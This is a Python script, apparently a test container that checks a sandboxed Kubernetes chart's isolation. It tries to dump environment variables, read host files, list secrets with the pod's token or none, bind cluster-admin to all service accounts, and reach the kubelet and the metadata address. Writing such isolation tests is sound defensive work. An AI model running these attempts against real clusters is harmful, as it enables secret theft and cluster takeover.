"""A container of a judged chart that attempts forbidden actions.

Each attempt prints `tried WHAT: OUTCOME`. FILES are paths on the machine that judges.
"""

import http.client
import json
import os
import signal
import socket
import ssl
import sys
from pathlib import Path

_ACCOUNT = Path("/var/run/secrets/kubernetes.io/serviceaccount")
_BINDINGS = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
_BINDING = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "hostile"},
    "roleRef": {
        "apiGroup": "rbac.authorization.k8s.io",
        "kind": "ClusterRole",
        "name": "cluster-admin",
    },
    "subjects": [{"kind": "Group", "name": "system:serviceaccounts"}],
}


def tell(what: str, outcome: object) -> None:
    """Print the outcome of an attempt."""
    print(f"tried {what}: {outcome}", flush=True)


def status(host: str, path: str, token: str = "", document: object = None) -> object:
    """Send an unverified TLS request as a pod does; return the status or the error."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    body = json.dumps(document) if document else None
    connection = http.client.HTTPSConnection(host, timeout=10, context=context)
    try:
        connection.request("POST" if body else "GET", path, body, headers)
        answer = connection.getresponse()
        print(answer.read().decode(errors="replace"))
        return answer.status
    except ConnectionRefusedError:
        return "refused"
    except OSError as error:
        return error


def connected(address: tuple[str, int]) -> str:
    """Try to connect to an address, and return the outcome."""
    try:
        with socket.create_connection(address, timeout=10):
            return "reached"
    except ConnectionRefusedError:
        return "refused"
    except OSError as error:
        return str(error)


def readable(paths: list[str]) -> str:
    """Return the first readable path, and print its content."""
    for path in paths:
        try:
            print(Path(path).read_bytes())
        except OSError:
            continue
        return path
    return "none"


def main() -> None:
    """Make every attempt, and then wait, unless the container is a hook's."""
    print(dict(os.environ))
    found = [name for name, value in os.environ.items() if "canary+" in value]
    tell("environment", found or "none")
    tell("files", readable(os.environ["FILES"].split()))
    token = (_ACCOUNT / "token").read_text()
    namespace = (_ACCOUNT / "namespace").read_text()
    api = f"{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
    tell("cluster-secrets", status(api, "/api/v1/secrets", token))
    tell("namespace-secrets", status(api, f"/api/v1/namespaces/{namespace}/secrets", token))
    tell("cluster-role-binding", status(api, _BINDINGS, token, _BINDING))
    tell("anonymous", status(api, "/api/v1/secrets"))
    tell("kubelet", status(f"{os.environ['NODE']}:10250", "/pods"))
    # Port 53 is refused like any other port, and the guard does not count it as the lab's attempt.
    tell("metadata", connected(("169.254.169.254", 53)))
    tell("all", "done")
    if sys.argv[1:] != ["hook"]:
        signal.pause()


main()
